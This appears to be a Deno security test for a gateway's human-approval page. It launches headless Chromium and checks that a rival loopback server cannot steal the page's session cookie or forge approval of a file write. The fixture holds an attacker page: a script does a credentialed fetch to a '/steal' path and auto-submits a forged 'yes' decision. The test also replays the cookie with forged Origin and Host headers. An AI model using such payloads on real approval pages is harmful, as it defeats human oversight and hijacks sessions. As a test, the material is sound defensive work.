/**
 * Attack (issue 27 item 2): browsers scope cookies by host, not by port. Once the human opened the
 * approval page, a server of another program on `127.0.0.1:OTHER` (or `localhost:OTHER`) that the
 * browser visits, and its scripts, try to get the page's session cookie, and a cookie taken from
 * the browser profile is replayed with forged `Origin` and `Host`. Driven in headless Chromium.
 * Beside it, the ordinary work: the human's own Yes on the page decides.
 */
import { assert, assertEquals, assertNotEquals } from "../../packages/pml/src/testing/assert.ts";
import { findChromium, launchChromium } from "../../packages/pml/src/testing/chromium.ts";
import { rawHttp } from "../../packages/pml/src/testing/raw_http.ts";
import { gatewayFor, humanLines, tempWorkspace } from "../../packages/pml/src/testing/workspace.ts";

const PERMS = {
  permissions: { allow: ["filesystem:read_file"], ask: ["filesystem:write_file"], deny: [] },
};

Deno.test({
  name:
    "attack approval_cookie: another loopback server the browser visits never receives the page's cookie; a replayed cookie with a forged Origin or Host is refused",
  ignore: !findChromium() && Deno.env.get("CI") === undefined,
  async fn() {
    await using ws = tempWorkspace(PERMS);
    const human = humanLines();
    await using g = await gatewayFor(ws, { tell: human.tell });
    const r = await g.client.callTool({
      name: "filesystem__write_file",
      arguments: { path: "victim.txt", content: "x" },
    });
    const id = String((r.structuredContent as Record<string, unknown>).workflow_id);
    const link = new URL(human.lastLink());
    const page = link.host;
    const pagePort = Number(link.port);

    // The other program's server: on 127.0.0.1, records every request's cookies; its page's script
    // asks the approval page too (with credentials) and posts a decision to it.
    const received: { path: string; cookie: string | null }[] = [];
    const attacker = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (req) => {
      received.push({ path: new URL(req.url).pathname, cookie: req.headers.get("cookie") });
      const html =
        `<!doctype html><body><form id="f" method="post" action="${link.origin}/decide" target="sink">
<input name="id" value="${id}"><input name="decision" value="yes"></form><iframe name="sink"></iframe>
<script>
fetch("${link.origin}/version", { credentials: "include", mode: "no-cors" }).catch(() => {});
fetch("/steal", { credentials: "include" }).catch(() => {});
document.getElementById("f").submit();
</script></body>`;
      return new Response(html, { headers: { "content-type": "text/html" } });
    });
    try {
      const other = attacker.addr.port;
      let attempts = 0;
      await using browser = await launchChromium();
      await browser.goto(link.href); // the human opens the link pml gave them
      const cookies = await browser.cookies();
      const mine = cookies.find((c) => c.name.startsWith("pml_approvals"));
      assert(mine, `the page set its cookie: ${JSON.stringify(cookies)}`);
      assertEquals(mine.domain, link.hostname, "the cookie belongs to the page's own address");

      // The browser visits the other server, by address and by name, and runs its scripts.
      for (const host of [`127.0.0.1:${other}`, `localhost:${other}`]) {
        for (const path of ["/", "/again"]) {
          attempts += 3; // its cookie on the visit, a credentialed fetch and a form post to the page
          const steals = received.filter((q) => q.path === "/steal").length;
          await browser.goto(`http://${host}${path}`);
          // Its script has run once its fetch of /steal arrived.
          while (received.filter((q) => q.path === "/steal").length === steals) {
            await new Promise((r) => setTimeout(r, 20));
          }
        }
      }
      assert(received.length >= 4, JSON.stringify(received));
      for (const req of received) {
        assert(!req.cookie?.includes("pml_approvals"), `cookie sent to ${req.path}: ${req.cookie}`);
      }
      assertNotEquals(link.hostname, "127.0.0.1", "the page is not on 127.0.0.1");
      // The page's own server: nothing was decided by the attacker's form.
      const version = await rawHttp(page, {
        path: "/version",
        headers: { host: page, cookie: `${mine.name}=${mine.value}` },
      });
      assertEquals(version.status, 200);
      assertEquals(version.body.trim(), `${id}:`, "undecided");

      // The cookie itself replayed (taken from the profile), with forged Origins and Hosts.
      const form = await rawHttp(page, {
        path: "/",
        headers: { host: page, cookie: `${mine.name}=${mine.value}` },
      });
      const csrf = form.body.match(/name="csrf" value="([0-9a-f]+)"/)?.[1] ?? "";
      for (
        const [host, origin] of [
          [page, `http://127.0.0.1:${other}`],
          [page, `http://localhost:${other}`],
          [page, `http://127.0.0.1:${pagePort}`],
          [page, `http://localhost:${pagePort}`],
          [page, "null"],
          [`127.0.0.1:${pagePort}`, `http://127.0.0.1:${pagePort}`],
          [`localhost:${pagePort}`, `http://localhost:${pagePort}`],
        ]
      ) {
        attempts++;
        const res = await rawHttp(page, {
          method: "POST",
          path: "/decide",
          headers: {
            host,
            origin,
            cookie: `${mine.name}=${mine.value}`,
            "content-type": "application/x-www-form-urlencoded",
          },
          body: new URLSearchParams({ id, decision: "yes", csrf }).toString(),
        });
        assert(res.status === 403 || res.status === 421, `${host} ${origin}: ${res.status}`);
      }
      // The old address does not exist any more: nothing listens on 127.0.0.1 at the page's port.
      attempts++;
      const old = await Deno.connect({ hostname: "127.0.0.1", port: pagePort }).then(
        (c) => (c.close(), true),
        () => false,
      );
      assert(!old, "the page does not listen on 127.0.0.1");
      console.error(`approval_cookie: ${attempts} attempts, 0 decided`);

      // The human's own Yes on the page works.
      await browser.goto(`${link.origin}/`);
      await browser.clickAndWait(`#a-${id} button[value=yes]`);
      const done = await g.client.callTool({
        name: "pml__continue",
        arguments: { workflow_id: id, decision: "yes" },
      });
      assert(!done.isError, JSON.stringify(done));
      assertEquals(ws.read("victim.txt"), "x");
    } finally {
      await attacker.shutdown();
    }
  },
});
